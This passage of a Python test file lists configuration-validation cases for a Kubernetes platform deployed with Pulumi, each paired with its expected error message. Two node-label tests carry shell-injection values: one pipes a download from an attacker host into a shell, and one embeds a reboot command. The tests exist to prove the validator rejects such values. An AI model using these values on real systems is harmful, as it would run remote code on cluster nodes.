        "prod pulls its images over a private endpoint; set `private_endpoint: true` and `sku: Premium`",
    ),
    (
        "aks-private-registry-on-standard",
        "prod",
        set_in("infrastructure", "registry.sku", "Standard"),
        "infrastructure.registry.sku",
        "a private endpoint needs the `Premium` tier, not `Standard`",
    ),
    (
        "aks-registry-without-docker-hub-credentials",
        "dev",
        delete_in("infrastructure", "registry.docker_hub"),
        "infrastructure.registry.docker_hub",
        "Azure Container Registry caches Docker Hub images only with credentials, and the platform's images include Docker Hub "
        "ones; store a Docker Hub user name and access token in a Key Vault and name them here (docs/aks.md)",
    ),
    (
        "aks-existing-registry-with-a-tier",
        "dev",
        set_in("infrastructure", "registry", {"name": "sharedacr", "existing_resource_group": "registries", "sku": "Premium"}),
        "infrastructure.registry.sku",
        "applies only to a registry this stack creates; remove it, or remove existing_resource_group",
    ),
    (
        "aks-registry-name-invalid",
        "dev",
        set_in("infrastructure", "registry.name", "platform-acr"),
        "infrastructure.registry.name",
        "`platform-acr` is not an Azure Container Registry name: 5-50 letters and digits",
    ),
    (
        "aks-team-image-from-another-registry",
        "dev",
        set_in("teams", "0.workloads.0.image", "platformacr.azurecr.io/payments/payments-api:2.14.0"),
        "teams[0].workloads[0].image",
        "`platformacr.azurecr.io` is not an allowed registry (platformdevacr.azurecr.io)",
    ),
    # Issue 17 item 5: the preview identity is named by its object ID.
    (
        "aks-preview-identity-by-name",
        "prod",
        set_in("infrastructure", "preview_principal_id", "merge-request-previews"),
        "infrastructure.preview_principal_id",
        "`merge-request-previews` is not an Entra ID object ID (a GUID)",
    ),
    (
        "team-quota-not-quantity",
        "prod",
        set_in("teams", "0.quota.memory", "lots"),
        "teams[0].quota.memory",
        "`lots` is not a Kubernetes quantity (e.g. `500m`, `2`, `4Gi`)",
    ),
    ("team-key-typo", "prod", set_in("teams", "1.gruops", ["x"]), "teams[1].gruops", "unknown key (did you mean `groups`?)"),
    (
        "workload-foreign-registry",
        "prod",
        set_in("teams", "0.workloads.0.image", "docker.io/library/nginx:1.27"),
        "teams[0].workloads[0].image",
        "`docker.io` is not an allowed registry (platformacr.azurecr.io)",
    ),
    (
        "workload-latest-tag",
        "prod",
        set_in("teams", "0.workloads.1.image", "platformacr.azurecr.io/payments/settlement-worker:latest"),
        "teams[0].workloads[1].image",
        "`platformacr.azurecr.io/payments/settlement-worker:latest` uses the mutable tag `latest`; pin a version tag or a digest",
    ),
    (
        "workload-untagged",
        "prod",
        set_in("teams", "0.workloads.1.image", "platformacr.azurecr.io/payments/settlement-worker"),
        "teams[0].workloads[1].image",
        "`platformacr.azurecr.io/payments/settlement-worker` has no tag; pin a version tag or a digest, never an implicit `latest`",
    ),
    (
        "workload-short-image",
        "prod",
        set_in("teams", "0.workloads.1.image", "nginx:1.27"),
        "teams[0].workloads[1].image",
        "`nginx:1.27` is not a full image reference; write `registry.example.com/team/app:1.4.2` or pin a digest with `@sha256:...`",
    ),
    (
        "schedule-not-cron",
        "prod",
        set_in("teams", "0.workloads.2.schedule", "every night"),
        "teams[0].workloads[2].schedule",
        "`every night` is not a cron expression: it needs 5 fields (minute hour day-of-month month day-of-week), not 2",
    ),
    (
        "schedule-out-of-range",
        "prod",
        set_in("teams", "0.workloads.2.schedule", "30 25 * * *"),
        "teams[0].workloads[2].schedule",
        "`30 25 * * *` is not a cron expression: `25` is not a valid hour (0-23)",
    ),
    (
        "quota-below-workload-requests",
        "prod",
        set_in("teams", "1.quota", {"cpu": "500m", "memory": "16Gi"}),
        "teams[1].quota.cpu",
        "500m is below the requests of this team's workloads at peak (600m); raise the quota or shrink the workloads",
    ),
    (
        "quota-below-workload-limits",
        "prod",
        set_in("teams", "1.quota", {"cpu": "1", "memory": "16Gi"}),
        "teams[1].quota.cpu",
        "1 is below the limits of this team's workloads at peak (3000m); raise the quota or shrink the workloads",
    ),
    (
        "quota-pods-below-workloads",
        "prod",
        set_in("teams", "1.quota", {"pods": 3}),
        "teams[1].quota.pods",
        "3 is below the pods this team's workloads run at peak (6)",
    ),
    (
        "workload-uses-missing-service",
        "dev",
        set_in("teams", "0.workloads.0.uses", [{"service": "postgres"}]),
        "teams[0].workloads[0].uses[0].service",
        "this stack does not run postgres; enable services.postgres or remove it",
    ),
    (
        "workload-uses-unknown-service",
        "prod",
        set_in("teams", "0.workloads.0.uses", [{"service": "mongodb"}]),
        "teams[0].workloads[0].uses[0].service",
        "Input should be 'postgres', 'redis', 'rabbitmq' or 'kafka'",
    ),
    (
        "workload-duplicate",
        "prod",
        set_in("teams", "0.workloads.1.name", "payments-api"),
        "teams[0].workloads[1].name",
        "workload `payments-api` is declared twice in this team",
    ),
    (
        "workload-kind-unknown",
        "prod",
        set_in("teams", "0.workloads.1.kind", "daemon"),
        "teams[0].workloads[1].kind",
        "`daemon` is not a kind here; use one of 'api', 'worker', 'scheduled_job'",
    ),
    (
        "api-limit-below-request",
        "prod",
        set_in("teams", "0.workloads.0.resources", {"cpu_request": "1", "cpu_limit": "500m"}),
        "teams[0].workloads[0].resources.cpu_limit",
        "must be at least cpu_request (500m < 1)",
    ),
    (
        "charts-oci-without-registry",
        "local",
        set_section("charts", {"source": "oci"}),
        "charts.oci_registry",
        "an OCI chart source needs the registry path (e.g. `harbor.dc1.example.com/charts`)",
    ),
    (
        "charts-source-unknown",
        "local",
        set_section("charts", {"source": "github"}),
        "charts.source",
        "Input should be 'remote', 'oci', 'local' or 'off'",
    ),
    # Fields whose only rule is their type or range: one case each, so every key has a wrong-value test.
    (
        "aks-upgrade-channel-unknown",
        "prod",
        set_in("infrastructure", "upgrade_channel", "weekly"),
        "infrastructure.upgrade_channel",
        "Input should be 'patch', 'stable', 'rapid' or 'node-image'",
    ),
    (
        "aks-node-os-channel-unknown",
        "prod",
        set_in("infrastructure", "node_os_upgrade_channel", "Daily"),
        "infrastructure.node_os_upgrade_channel",
        "Input should be 'NodeImage', 'SecurityPatch' or 'Unmanaged'",
    ),
    (
        "maintenance-too-short",
        "prod",
        set_in("infrastructure", "maintenance.duration_hours", 2),
        "infrastructure.maintenance.duration_hours",
        "Input should be greater than or equal to 4",
    ),
    (
        "os-disk-too-small",
        "prod",
        set_in("infrastructure", "node_pools.general.os_disk_gb", 10),
        "infrastructure.node_pools.general.os_disk_gb",
        "Input should be greater than or equal to 30",
    ),
    (
        "os-disk-kind-unknown",
        "prod",
        set_in("infrastructure", "node_pools.general.os_disk", "Floppy"),
        "infrastructure.node_pools.general.os_disk",
        "Input should be 'Ephemeral' or 'Managed'",
    ),
    (
        "premium-disks-not-bool",
        "prod",
        set_in("infrastructure", "node_pools.database.premium_disks", "sometimes"),
        "infrastructure.node_pools.database.premium_disks",
        "Input should be a valid boolean; write true or false, unquoted",
    ),
    (
        "rancher-server-not-url",
        "onprem-dc2",
        set_in("infrastructure", "server_url", "rancher dc2"),
        "infrastructure.server_url",
        "Input should be a valid URL, relative URL without a base",
    ),
    (
        "rancher-data-centre-empty",
        "onprem-dc2",
        set_in("infrastructure", "data_centre", ""),
        "infrastructure.data_centre",
        "String should have at least 1 character",
    ),
    (
        "etcd-restore-scope-unknown",
        "onprem-dc2",
        set_in("infrastructure", "etcd_snapshots.restore", {"name": "x", "restore_rke_config": "everything"}),
        "infrastructure.etcd_snapshots.restore.restore_rke_config",
        "Input should be 'none', 'kubernetesVersion' or 'all'",
    ),
    (
        "azure-versioning-not-bool",
        "prod",
        set_in("storage", "versioning", "maybe"),
        "storage.versioning",
        "Input should be a valid boolean; write true or false, unquoted",
    ),
    (
        "ca-validity-too-short",
        "onprem-dc2",
        set_in("services", "cert_manager.issuer", {"kind": "internal_ca", "root_validity_days": 1}),
        "services.cert_manager.issuer.root_validity_days",
        "Input should be greater than or equal to 30",
    ),
    (
        "postgres-backup-schedule-not-cron",
        "prod",
        set_in("services", "postgres.logical_backup_schedule", "nightly"),
        "services.postgres.logical_backup_schedule",
        "`nightly` is not a cron expression: it needs 5 fields (minute hour day-of-month month day-of-week), not 1",
    ),
    (
        "postgres-base-backups-zero",
        "prod",
        set_in("services", "postgres.base_backups_kept", 0),
        "services.postgres.base_backups_kept",
        "Input should be greater than or equal to 1",
    ),
    (
        "kafka-storage-zero",
        "prod",
        set_in("services", "kafka.storage_gi", 0),
        "services.kafka.storage_gi",
        "Input should be greater than or equal to 1",
    ),
    (
        "kafka-broker-size-unknown",
        "prod",
        set_in("services", "kafka.broker_size", "huge"),
        "services.kafka.broker_size",
        "`huge` is not an instance size (xsmall: 100m CPU, 256Mi, small: 500m CPU, 1Gi, medium: 1 CPU, 2Gi, large: 2 CPU, 4Gi, xlarge: 4 "
        "CPU, 8Gi); use one of xsmall, small, medium, large, xlarge",
    ),
    (
        "registry-db-volume-zero",
        "onprem-dc2",
        set_in("services", "registry.database_volume_gi", 0),
        "services.registry.database_volume_gi",
        "Input should be greater than or equal to 1",
    ),
    (
        "snapshot-driver-invalid",
        "onprem-dc2",
        set_in("services", "backup.snapshot_driver", "Ceph RBD"),
        "services.backup.snapshot_driver",
        "`Ceph RBD` is not a CSI driver name (at most 63 lower-case letters, digits, '-' and '.', e.g. `rbd.csi.ceph.com`)",
    ),
    # Issue 6: observability.
    (
        "log-archive-below-compliance",
        "prod",
        set_in("services", "logging.archive_days", 100),
        "services.logging.archive_days",
        "the archive must keep logs at least 365 days (compliance_min_days), not 100; raise archive_days",
    ),
    (
        "log-archive-below-search",
        "dev",
        set_in("services", "logging", {"enabled": False, "retention_days": 60, "archive_days": 30}),
        "services.logging.archive_days",
        "the archive (30 days) must keep logs at least as long as search (60 days)",
    ),
    (
        "log-search-too-long",
        "prod",
        set_in("services", "logging.retention_days", 400),
        "services.logging.retention_days",
        "Input should be less than or equal to 365",
    ),
    (
        "webhook-receiver-without-credentials",
        "prod",
        set_in("services", "monitoring.receivers", [{"kind": "webhook", "name": "incidents", "url": secure("x")}]),
        "services.monitoring.receivers[0].bearer_token",
        "a webhook receiver needs credentials: set `bearer_token` or `basic_auth` (with `pulumi config set --secret --path ...`)",
    ),
    (
        "webhook-receiver-url-in-plain-text",
        "prod",
        set_in(
            "services",
            "monitoring.receivers",
            [{"kind": "webhook", "name": "incidents", "url": "https://hooks.example.com/x", "bearer_token": secure("x")}],
        ),
        "services.monitoring.receivers[0].url",
        "must be a Pulumi secret, not plain text: run `pulumi config set --secret --path "
        "'complete-cluster:services.monitoring.receivers[0].url' <value> --stack prod`",
    ),
    (
        "webhook-receiver-basic-auth-password-plain",
        "prod",
        set_in(
            "services",
            "monitoring.receivers",
            [{"kind": "webhook", "name": "incidents", "url": secure("x"), "basic_auth": {"username": "am", "password": "hunter2"}}],
        ),
        "services.monitoring.receivers[0].basic_auth.password",
        "must be a Pulumi secret, not plain text: run `pulumi config set --secret --path "
        "'complete-cluster:services.monitoring.receivers[0].basic_auth.password' <value> --stack prod`",
    ),
    (
        "pagerduty-receiver-without-key",
        "prod",
        set_in("services", "monitoring.receivers", [{"kind": "pagerduty", "name": "oncall"}]),
        "services.monitoring.receivers[0].routing_key",
        "is required",
    ),
    (
        "receiver-kind-unknown",
        "prod",
        set_in("services", "monitoring.receivers", [{"kind": "email", "name": "oncall"}]),
        "services.monitoring.receivers[0].kind",
        "`email` is not a kind here; use one of 'webhook', 'slack', 'pagerduty'",
    ),
    (
        "receiver-name-twice",
        "prod",
        lambda d: section(d, "services")["monitoring"]["receivers"][1].__setitem__("name", "platform-oncall"),
        "services.monitoring.receivers[1].name",
        "receiver `platform-oncall` is already declared at receivers[0]",
    ),
    (
        "receiver-severity-unknown",
        "prod",
        set_in("services", "monitoring.receivers.1.severities", ["page"]),
        "services.monitoring.receivers[1].severities[0]",
        "Input should be 'critical', 'warning' or 'info'",
    ),
    (
        "slack-channel-invalid",
        "prod",
        set_in("services", "monitoring.receivers.1.channel", "Platform Alerts"),
        "services.monitoring.receivers[1].channel",
        "String should match pattern '^[#@]?[a-z0-9][a-z0-9._-]{0,79}$'",
    ),
    (
        "prod-without-receivers",
        "prod",
        lambda d: section(d, "services")["monitoring"].pop("receivers"),
        "services.monitoring.receivers",
        "prod alerts must reach someone: declare at least one receiver (webhook, slack or pagerduty)",
    ),
    (
        "reduced-monitoring-with-receivers",
        "dev",
        set_in("services", "monitoring", {"receivers": [{"kind": "pagerduty", "name": "oncall", "routing_key": secure("x")}]}),
        "services.monitoring.receivers",
        "`reduced` monitoring runs no Alertmanager, so receivers would never be called; set `mode: full` or remove them",
    ),
    (
        "monitoring-mode-unknown",
        "prod",
        set_in("services", "monitoring.mode", "minimal"),
        "services.monitoring.mode",
        "Input should be 'reduced' or 'full'",
    ),
    (
        "prod-single-prometheus",
        "prod",
        set_in("services", "monitoring.replicas", 1),
        "services.monitoring.replicas",
        "prod runs at least 2 Prometheus replicas (alerting survives a node loss), not 1",
    ),
    (
        "prometheus-volume-tiny",
        "prod",
        set_in("services", "monitoring.volume_gi", 1),
        "services.monitoring.volume_gi",
        "Input should be greater than or equal to 5",
    ),
    (
        "metrics-retention-too-long",
        "prod",
        set_in("services", "monitoring.retention_days", 1000),
        "services.monitoring.retention_days",
        "Input should be less than or equal to 365",
    ),
    (
        "grafana-hostname-with-scheme",
        "prod",
        set_in("services", "monitoring.grafana_hostname", "https://grafana.example.com"),
        "services.monitoring.grafana_hostname",
        "`https://grafana.example.com` is not a DNS host name such as `grafana.dc1.example.com` (lower-case, no scheme, no port)",
    ),
    (
        "logging-without-monitoring",
        "prod",
        set_in("services", "monitoring", {"enabled": False}),
        "services.logging.enabled",
        "is viewed in Grafana, which the monitoring stack runs; enable services.monitoring",
    ),
    (
        "remote-write-to-a-non-primary",
        "onprem-dc2",
        set_in("services", "monitoring.central.send_to", "prod"),
        "services.monitoring.central.send_to",
        "`prod` is not this site's primary; remote-write goes to the primary site `onprem-dc1` (or leave send_to out)",
    ),
    (
        "remote-write-from-a-primary",
        "prod",
        set_in("services", "monitoring.central", {"send_to": "onprem-dc1"}),
        "services.monitoring.central.send_to",
        "`onprem-dc1` is not a primary of this site: a primary site is the central view and sends nowhere; remove send_to",
    ),
    (
        "secondary-without-telemetry-host",
        "onprem-dc2",
        lambda d: section(d, "services")["monitoring"]["central"].pop("hostname"),
        "services.monitoring.central.hostname",
        "this environment has several sites: the primary receives the others' metrics and logs at its telemetry host, and any site may "
        "become the primary; "
        "set this site's (e.g. `telemetry.dc1.example.com`)",
    ),
    (
        "secondary-without-central-password",
        "onprem-dc2",
        lambda d: section(d, "services")["monitoring"]["central"].pop("password"),
        "services.monitoring.central.password",
        "the sites authenticate to each other with a shared password; set the same on each with "
        "`pulumi config set --secret --path 'complete-cluster:services.monitoring.central.password' <value>`",
    ),
    (
        "central-password-plain",
        "onprem-dc2",
        set_in("services", "monitoring.central.password", "hunter2"),
        "services.monitoring.central.password",
        "must be a Pulumi secret, not plain text: run `pulumi config set --secret --path "
        "'complete-cluster:services.monitoring.central.password' <value> --stack onprem-dc2`",
    ),
    (
        "site-down-after-too-short",
        "onprem-dc2",
        set_in("services", "monitoring.central.site_down_after_minutes", 1),
        "services.monitoring.central.site_down_after_minutes",
        "Input should be greater than or equal to 2",
    ),
    (
        "telemetry-host-without-ingress",
        "onprem-dc2",
        set_in("services", "ingress", {"enabled": False}),
        "services.monitoring.central.hostname",
        "is served by the platform ingress; enable services.ingress",
    ),
    (
        "monitoring-enabled-not-bool",
        "prod",
        set_in("services", "monitoring.enabled", "sometimes"),
        "services.monitoring.enabled",
        "Input should be a valid boolean; write true or false, unquoted",
    ),
    (
        "receiver-with-both-credentials",
        "prod",
        set_in(
            "services",
            "monitoring.receivers",
            [
                {
                    "kind": "webhook",
                    "name": "incidents",
                    "url": secure("x"),
                    "bearer_token": secure("y"),
                    "basic_auth": {"username": "am", "password": secure("z")},
                }
            ],
        ),
        "services.monitoring.receivers[0].basic_auth",
        "set either `bearer_token` or `basic_auth`, not both",
    ),
    (
        "receiver-basic-auth-without-user",
        "prod",
        set_in(
            "services",
            "monitoring.receivers",
            [
                {
                    "kind": "webhook",
                    "name": "incidents",
                    "url": secure("x"),
                    "basic_auth": {"username": "", "password": secure("z")},
                }
            ],
        ),
        "services.monitoring.receivers[0].basic_auth.username",
        "String should have at least 1 character",
    ),
    (
        "receiver-bearer-token-plain",
        "prod",
        set_in(
            "services", "monitoring.receivers", [{"kind": "webhook", "name": "incidents", "url": secure("x"), "bearer_token": "abc"}]
        ),
        "services.monitoring.receivers[0].bearer_token",
        "must be a Pulumi secret, not plain text: run `pulumi config set --secret --path "
        "'complete-cluster:services.monitoring.receivers[0].bearer_token' <value> --stack prod`",
    ),
    (
        "receiver-without-severities",
        "prod",
        set_in("services", "monitoring.receivers.1.severities", []),
        "services.monitoring.receivers[1].severities",
        "List should have at least 1 item after validation, not 0",
    ),
    (
        "receiver-name-not-dns",
        "prod",
        set_in("services", "monitoring.receivers.1.name", "Platform Alerts"),
        "services.monitoring.receivers[1].name",
        "`Platform Alerts` is not a valid Kubernetes name: use at most 63 lower-case letters, digits and '-', starting and ending with a "
        "letter or digit",
    ),
    (
        "telemetry-host-invalid",
        "onprem-dc2",
        set_in("services", "monitoring.central.hostname", "telemetry:443"),
        "services.monitoring.central.hostname",
        "`telemetry:443` is not a DNS host name such as `grafana.dc1.example.com` (lower-case, no scheme, no port)",
    ),
    (
        "log-volume-zero",
        "prod",
        set_in("services", "logging.volume_gi", 0),
        "services.logging.volume_gi",
        "Input should be greater than or equal to 1",
    ),
    (
        "log-compliance-negative",
        "prod",
        set_in("services", "logging.compliance_min_days", -1),
        "services.logging.compliance_min_days",
        "Input should be greater than or equal to 0",
    ),
    (
        "audit-logs-not-bool",
        "prod",
        set_in("services", "logging.audit_logs", "maybe"),
        "services.logging.audit_logs",
        "Input should be a valid boolean; write true or false, unquoted",
    ),
    (
        "tracing-enabled-not-bool",
        "prod",
        set_in("services", "tracing.enabled", "sometimes"),
        "services.tracing.enabled",
        "Input should be a valid boolean; write true or false, unquoted",
    ),
    (
        "registry-replication-secret-missing",
        "onprem-dc2",
        lambda d: section(d, "services")["registry"].pop("replication_secret"),
        "services.registry.replication_secret",
        "the sites' Harbors replicate images from the primary with a shared robot account secret; set the same on each site with "
        "`pulumi config set --secret --path 'complete-cluster:services.registry.replication_secret' <value>`",
    ),
    (
        "registry-replication-secret-plain",
        "onprem-dc2",
        set_in("services", "registry.replication_secret", "Replicate-me-1"),
        "services.registry.replication_secret",
        "must be a Pulumi secret, not plain text: run `pulumi config set --secret --path "
        "'complete-cluster:services.registry.replication_secret' <value> --stack onprem-dc2`",
    ),
    (
        "trace-sampling-zero",
        "prod",
        set_in("services", "tracing.sampling_percent", 0),
        "services.tracing.sampling_percent",
        "Input should be greater than 0",
    ),
    (
        "tracing-retention-zero",
        "prod",
        set_in("services", "tracing.retention_days", 0),
        "services.tracing.retention_days",
        "Input should be greater than or equal to 1",
    ),
    (
        "container-defaults-not-quantity",
        "prod",
        set_in("teams", "0.container_defaults", {"memory_limit": "lots"}),
        "teams[0].container_defaults.memory_limit",
        "`lots` is not a Kubernetes quantity (e.g. `500m`, `2`, `4Gi`)",
    ),
    (
        "workload-memory-limit-below-request",
        "prod",
        set_in("teams", "0.workloads.1.resources", {"memory_request": "1Gi", "memory_limit": "512Mi"}),
        "teams[0].workloads[1].resources.memory_limit",
        "must be at least memory_request (512Mi < 1Gi)",
    ),
    (
        "api-max-below-replicas",
        "prod",
        set_in("teams", "0.workloads.0.max_replicas", 1),
        "teams[0].workloads[0].max_replicas",
        "must be at least replicas (1 < 2)",
    ),
    (
        "job-timeout-too-short",
        "prod",
        set_in("teams", "0.workloads.2.timeout_seconds", 5),
        "teams[0].workloads[2].timeout_seconds",
        "Input should be greater than or equal to 60",
    ),
    (
        "job-retries-negative",
        "prod",
        set_in("teams", "0.workloads.2.retries", -1),
        "teams[0].workloads[2].retries",
        "Input should be greater than or equal to 0",
    ),
    (
        "topic-retention-zero",
        "prod",
        set_in("teams", "1.topics.0.retention_hours", 0),
        "teams[1].topics[0].retention_hours",
        "Input should be greater than or equal to 1",
    ),
    (
        "platform-groups-not-list",
        "prod",
        set_section("policy", {"platform_groups": "platform-operators", "allowed_registries": ["platformacr.azurecr.io"]}),
        "policy.platform_groups",
        "Input should be a valid list",
    ),
    (
        "chargeback-negative",
        "onprem-dc2",
        set_in("policy", "chargeback.per_node", -5),
        "policy.chargeback.per_node",
        "Input should be greater than or equal to 0",
    ),
    (
        "policy-enforcement-unknown",
        "prod",
        set_section("policy", {"enforcement": "strict"}),
        "policy.enforcement",
        "Input should be 'advisory' or 'mandatory'",
    ),
    # shared services: ingress, certificates and the data services teams declare
    (
        "cache-size-beyond-quota",
        "prod",
        set_in("teams", "1.caches.0.size", "xlarge"),
        "teams[1].caches[0].size",
        "`xlarge` (4 CPU, 8Gi per pod, 3 pods) takes the team to 15450m cpu with its workloads at peak, beyond quota.cpu (8); choose a "
        "smaller size or raise the quota",
    ),
    (
        "database-volume-beyond-quota",
        "prod",
        set_in("teams", "0.databases.0.volume_gi", 150),
        "teams[0].databases[0].volume_gi",
        "the team's volumes come to 300Gi with this one, beyond quota.storage (200Gi); choose a smaller volume or raise the quota",
    ),
    (
        "instance-size-unknown",
        "prod",
        set_in("teams", "0.caches.0.size", "huge"),
        "teams[0].caches[0].size",
        "`huge` is not an instance size (xsmall: 100m CPU, 256Mi, small: 500m CPU, 1Gi, medium: 1 CPU, 2Gi, large: 2 CPU, 4Gi, xlarge: 4 "
        "CPU, 8Gi); "
        "use one of xsmall, small, medium, large, xlarge",
    ),
    (
        "topic-replicas-above-brokers",
        "prod",
        set_in("teams", "1.topics.0.replicas", 4),
        "teams[1].topics[0].replicas",
        "the replication factor cannot exceed the Kafka broker count (4 > 3); lower `replicas` or raise services.kafka.brokers",
    ),
    (
        "postgres-version-unsupported",
        "prod",
        set_in("teams", "0.databases.0.version", "12"),
        "teams[0].databases[0].version",
        "`12` is not a PostgreSQL major version that postgres-operator 2.0.1 runs; use one of 14, 15, 16, 17, 18",
    ),
    (
        "postgres-default-version-unsupported",
        "prod",
        set_in("services", "postgres.version", 13),
        "services.postgres.version",
        "`13` is not a PostgreSQL major version that postgres-operator 2.0.1 runs; use one of 14, 15, 16, 17, 18",
    ),
    (
        "prod-postgres-single-instance",
        "prod",
        set_in("services", "postgres.instances", 1),
        "services.postgres.instances",
        "prod runs at least 2 PostgreSQL instances per cluster (a replica to fail over to), not 1",
    ),
    (
        "uses-unknown-instance",
        "prod",
        set_in("teams", "0.workloads.0.uses.0", {"service": "postgres", "instance": "ledger"}),
        "teams[0].workloads[0].uses[0].instance",
        "team `payments` declares no postgres instance `ledger`; its databases: `db`. Declare it under teams[0].databases or name one "
        "that exists",
    ),
    (
        "uses-default-instance-undeclared",
        "prod",
        set_in("teams", "1.caches.0.name", "sessions"),
        "teams[1].workloads[0].uses[0].instance",
        "team `search` declares no redis instance `cache` (no `instance` given, so `cache`); its caches: `sessions`. Declare it under "
        "teams[1].caches or name one that exists",
    ),
    (
        "kafka-instance-not-the-shared-cluster",
        "prod",
        set_in("teams", "1.workloads.1.uses.0", {"service": "kafka", "instance": "search-events"}),
        "teams[1].workloads[1].uses[0].instance",
        "Kafka is the one shared cluster `events`; remove `instance` or set it to `events`",
    ),
    (
        "instances-of-a-disabled-service",
        "dev",
        set_in("teams", "0.queues", [{"name": "queue"}]),
        "teams[0].queues",
        "this stack does not run rabbitmq; enable services.rabbitmq or remove them",
    ),
    (
        "instance-declared-twice",
        "prod",
        set_in("teams", "0.caches", [{"name": "cache"}, {"name": "cache"}]),
        "teams[0].caches[1].name",
        "`cache` is declared twice in this team's caches",
    ),
    (
        "redis-even-sentinels",
        "prod",
        set_in("services", "redis.sentinels", 2),
        "services.redis.sentinels",
        "Sentinels elect a new master by majority; run an odd number, not 2",
    ),
    # Issue 18 item 3: silent accepts. Every regex validates the whole value (`$` matched before a final newline).
    (
        "team-name-trailing-newline",
        "prod",
        set_in("teams", "0.name", "payments\n"),
        "teams[0].name",
        "`payments\n` is not a valid Kubernetes name: use at most 63 lower-case letters, digits and '-', starting and ending with a "
        "letter or digit",
    ),
    (
        "image-trailing-newline",
        "prod",
        set_in("teams", "0.workloads.0.image", "platformacr.azurecr.io/payments/payments-api:2.14.0\n"),
        "teams[0].workloads[0].image",
        "`platformacr.azurecr.io/payments/payments-api:2.14.0\n` is not a full image reference; write "
        "`registry.example.com/team/app:1.4.2` or pin a digest with `@sha256:...`",
    ),
    ("budget-infinite", "prod", set_section("policy", {"budget_monthly": float("inf")}), "policy.budget_monthly",
     "Input should be a finite number"),
    ("budget-nan", "prod", set_section("policy", {"budget_monthly": float("nan")}), "policy.budget_monthly",
     "Input should be a finite number"),
    ("replicas-boolean", "prod", set_in("teams", "0.workloads.0.replicas", True), "teams[0].workloads[0].replicas",
     "Input should be a valid integer"),
    ("replicas-fraction", "prod", set_in("teams", "0.workloads.0.replicas", 2.5), "teams[0].workloads[0].replicas",
     "Input should be a valid integer"),
    ("spot-as-string", "prod", set_in("infrastructure", "node_pools.ai.spot", "yes"), "infrastructure.node_pools.ai.spot",
     "Input should be a valid boolean; write true or false, unquoted"),
    *[
        (
            f"secure-{name}",
            "prod",
            set_in("services", "monitoring.receivers.0.routing_key", {"secure": value}),
            "services.monitoring.receivers[0].routing_key",
            "`secure:` holds the ciphertext Pulumi wrote, and this is not one (empty, not text, or not Pulumi's base64); set it again "
            "with `pulumi config set --secret --path 'complete-cluster:services.monitoring.receivers[0].routing_key' <value> --stack prod`",
        )
        for name, value in [("null", None), ("empty", ""), ("list", ["v1:a"]), ("garbage", "hunter2!"), ("truncated", "v1:syDuaJakBnzm")]
    ],
    (
        "env-plain-password",
        "prod",
        set_in("teams", "0.workloads.1.env", {"LOG_LEVEL": "info", "DB_PASSWORD": "hunter2"}),
        "teams[0].workloads[1].env.DB_PASSWORD",
        "looks like a credential, and a workload's env is plain text in its Deployment; take it from the services the workload `uses` "
        "(their Secrets are referenced, never copied), or remove it",
    ),
    (
        "env-pulumi-secret",
        "prod",
        set_in("teams", "0.workloads.1.env", {"SIGNING": {"secure": "v1:syDuaJakBnzmJ8bb:CWDojc6+pV+7InCbhe9q5U5H8ETd"}}),
        "teams[0].workloads[1].env.SIGNING",
        "a workload's env is plain text in its Deployment; it cannot carry a Pulumi secret: credentials come from the services it "
        "`uses` (their Secrets are referenced, never copied)",
    ),
    # Issue 18 item 5: node labels go into the node registration shell command: only Kubernetes' shapes.
    (
        "machine-pool-label-injection",
        "onprem-dc2",
        set_in("infrastructure", "machine_pools.database.labels.nodeType", "database; curl https://attacker.example | sh"),
        "infrastructure.machine_pools.database.labels.nodeType",
        "`database; curl https://attacker.example | sh` is not a Kubernetes label value: at most 63 letters, digits, '-', '_' and '.', "
        "starting and ending with a letter or digit",
    ),
    (
        "machine-pool-label-key",
        "onprem-dc2",
        set_in("infrastructure", "machine_pools.database.labels", {"$(reboot)": "x"}),
        "infrastructure.machine_pools.database.labels.$(reboot)",
        "is not a Kubernetes label key: an optional DNS subdomain prefix and `/`, then at most 63 letters, digits, '-', '_' and '.', "
        "starting and ending with a letter or digit",
    ),
    # Issue 18 item 6: platform rules, as Kubernetes (robfig/cron v3 for schedules), AKS and RBAC apply them.
    *[
        (f"cron-{name}", "prod", set_in("teams", "0.workloads.2.schedule", schedule), "teams[0].workloads[2].schedule",
         f"`{schedule}` is not a cron expression: `{part}` is not a valid {field}")
        for name, schedule, part, field in [
            ("day-of-week-7", "30 2 * * 7", "7", "day of week (0-6)"),
            ("open-range", "30 2 * * 1-", "1-", "day of week (0-6)"),
            ("empty-step", "*/ 2 * * *", "*/", "minute (0-59)"),
            ("two-hyphens", "1-2-3 2 * * *", "1-2-3", "minute (0-59)"),
            ("zero-step", "*/0 2 * * *", "*/0", "minute (0-59)"),
            ("name-in-minutes", "mon 2 * * *", "mon", "minute (0-59)"),
        ]
    ],
    ("cron-time-zone", "prod", set_in("teams", "0.workloads.2.schedule", "CRON_TZ=UTC 30 2 * * *"), "teams[0].workloads[2].schedule",
     "`CRON_TZ=UTC 30 2 * * *` names a time zone; Kubernetes refuses TZ or CRON_TZ in a schedule"),
    ("snapshot-schedule-day-8", "onprem-dc2", set_in("infrastructure", "etcd_snapshots", {"schedule": "0 1 * * 8"}),
     "infrastructure.etcd_snapshots.schedule", "`0 1 * * 8` is not a cron expression: `8` is not a valid day of week (0-6)"),
    ("dns-service-ip-first", "prod", set_in("infrastructure", "network.dns_service_ip", "172.16.0.1"),
     "infrastructure.network.dns_service_ip",
     "172.16.0.1 is the first address of service_cidr, which Kubernetes gives to the API server's Service; use another, such as "
     "172.16.0.10"),
    ("dns-service-ip-network", "prod", set_in("infrastructure", "network.dns_service_ip", "172.16.0.0"),
     "infrastructure.network.dns_service_ip",
     "172.16.0.0 is not a host address of service_cidr 172.16.0.0/16; use one such as 172.16.0.10"),
    ("ingress-path-relative", "prod", set_in("teams", "0.workloads.0.path", "api"), "teams[0].workloads[0].path",
     "`api` is not an absolute HTTP path: start it with `/`, without spaces or control characters"),
    ("ingress-path-dot-dot", "prod", set_in("teams", "0.workloads.0.path", "/api/../admin"), "teams[0].workloads[0].path",
     "`/api/../admin` must not contain `/../` (Kubernetes refuses it in an Ingress path)"),
    ("health-path-relative", "prod", set_in("teams", "0.workloads.1.health_path", "healthz"), "teams[0].workloads[1].health_path",
     "`healthz` is not an absolute HTTP path: start it with `/`, without spaces or control characters"),
    *[
        (f"group-{name}", "prod", set_in("teams", "0.groups", [group]), "teams[0].groups[0]",
         f"`{group}` is not a directory group name: write the group's name, without surrounding spaces or control characters")
        for name, group in [("empty", ""), ("blank", "  "), ("padded", "payments-developers "), ("newline", "payments\nadmins")]
    ],
    ("platform-group-empty", "prod", set_section("policy", {"platform_groups": [""]}), "policy.platform_groups[0]",
